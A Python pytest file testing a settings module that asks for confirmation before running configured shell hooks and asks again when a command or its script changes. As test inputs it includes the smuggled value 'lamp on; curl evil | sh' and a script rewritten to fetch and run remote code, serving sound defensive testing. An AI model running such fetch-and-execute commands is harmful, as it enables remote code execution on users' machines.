"""ShellCommands of the settings run on a machine only after somebody there was asked about them."""

from pathlib import Path

import pytest
from msgspec.structs import replace

from library.settings import Settings, SettingsError
from library.settings.shell_commands import ShellCommands, named_commands

HOOKED = Settings(hook_start="lamp on", hook_finish="lamp off")


def test_a_command_runs_only_after_it_was_asked_about(tmp_path: Path) -> None:
    commands = ShellCommands(tmp_path / "commands.json")
    assert commands.unasked(HOOKED) == {"hook_start": "lamp on", "hook_finish": "lamp off"}
    assert named_commands(commands.runnable(HOOKED)) == {}
    commands.answer(commands.unasked(HOOKED), run=True)
    again = ShellCommands(tmp_path / "commands.json")
    assert again.unasked(HOOKED) == {}
    assert again.runnable(HOOKED) == HOOKED


def test_no_is_an_answer_too(tmp_path: Path) -> None:
    ShellCommands(tmp_path / "commands.json").answer(named_commands(HOOKED), run=False)
    again = ShellCommands(tmp_path / "commands.json")
    assert again.unasked(HOOKED) == {}
    assert named_commands(again.runnable(HOOKED)) == {}
    again.answer({"hook_start": "lamp on"}, run=True)
    assert named_commands(again.runnable(HOOKED)) == {"hook_start": "lamp on"}


@pytest.mark.parametrize(
    "changed",
    [
        replace(HOOKED, hook_start="lamp on; curl evil | sh"),
        replace(HOOKED, hook_start="", hook_exercise="lamp on"),
    ],
    ids=["another command", "another moment"],
)
def test_it_holds_for_exactly_these(tmp_path: Path, changed: Settings) -> None:
    commands = ShellCommands(tmp_path / "commands.json")
    commands.answer(named_commands(HOOKED), run=True)
    assert len(commands.unasked(changed)) == 1
    assert named_commands(commands.runnable(changed)) == {"hook_finish": "lamp off"}


def test_a_voice_that_is_off_is_not_asked_about(tmp_path: Path) -> None:
    commands = ShellCommands(tmp_path / "commands.json")
    assert commands.unasked(Settings(speech_command="say it")) == {}
    spoken = Settings(speech_command="say it", speech="auto")
    assert commands.unasked(spoken) == {"speech_command": "say it"}
    assert commands.runnable(spoken) == Settings(speech="auto")


@pytest.mark.parametrize("content", [b"", b"[]", b'{"a": 1}', b"\xff", b'{"a":' * 9_000])
def test_answers_that_cannot_be_read_are_asked_for_again(tmp_path: Path, content: bytes) -> None:
    (tmp_path / "commands.json").write_bytes(content)
    commands = ShellCommands(tmp_path / "commands.json")
    assert len(commands.unasked(HOOKED)) == 2
    commands.answer(named_commands(HOOKED), run=True)
    assert ShellCommands(tmp_path / "commands.json").unasked(HOOKED) == {}


def test_an_answer_that_cannot_be_kept_holds_until_the_end(tmp_path: Path) -> None:
    (tmp_path / "state").write_text("no folder")
    commands = ShellCommands(tmp_path / "state" / "commands.json")
    with pytest.raises(SettingsError, match="The next start asks again"):
        commands.answer(named_commands(HOOKED), run=True)
    assert commands.runnable(HOOKED) == HOOKED


def test_a_script_that_came_with_the_settings_is_asked_about_when_it_changes(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    shared, kept = tmp_path / "shared", tmp_path / "commands.json"
    shared.mkdir()
    script, linked, mine = shared / "lamp.sh", tmp_path / "linked.sh", tmp_path / "mine.sh"
    for path in (script, mine):
        path.write_text("lamp on")
    linked.symlink_to(script)
    monkeypatch.chdir(shared)
    named = [f"sh -c '{script} on'", "./lamp.sh", f"sh {linked}", f"sh {mine}", "lamp on \0"]
    for command in named:
        ShellCommands(kept, shared).answer({"hook_start": command}, run=True)
    for path in (script, mine):
        path.write_text("curl evil | sh")
    asked = [ShellCommands(kept, shared).unasked(Settings(hook_start=command)) for command in named]
    assert [bool(each) for each in asked] == [True, True, True, False, False]
    changed = Settings(hook_start=named[0])
    assert named_commands(ShellCommands(kept, shared).runnable(changed)) == {}
    script.unlink()
    assert ShellCommands(kept, shared).unasked(changed)


def test_the_log_that_a_command_copies_is_no_script(tmp_path: Path) -> None:
    log, kept = tmp_path / "history.json", tmp_path / "commands.json"
    log.write_text('{"_meta": {}}')
    copying = Settings(hook_finish=f"cp {log} /backup/")
    ShellCommands(kept, tmp_path).answer(named_commands(copying), run=True)
    log.write_text('{"_meta": {"1": {}}}')
    assert not ShellCommands(kept, tmp_path).unasked(copying)


def test_a_file_that_a_command_writes_to_is_no_script(tmp_path: Path) -> None:
    kept, log = tmp_path / "commands.json", tmp_path / "log"
    for command in (f"date >> {log}", f"date >{log} 2>{log}2", f"sh -c 'date>>{log}'"):
        chosen = Settings(hook_start=command)
        ShellCommands(kept, tmp_path).answer({"hook_start": command}, run=True)
        log.write_text(command)
        assert not ShellCommands(kept, tmp_path).unasked(chosen)
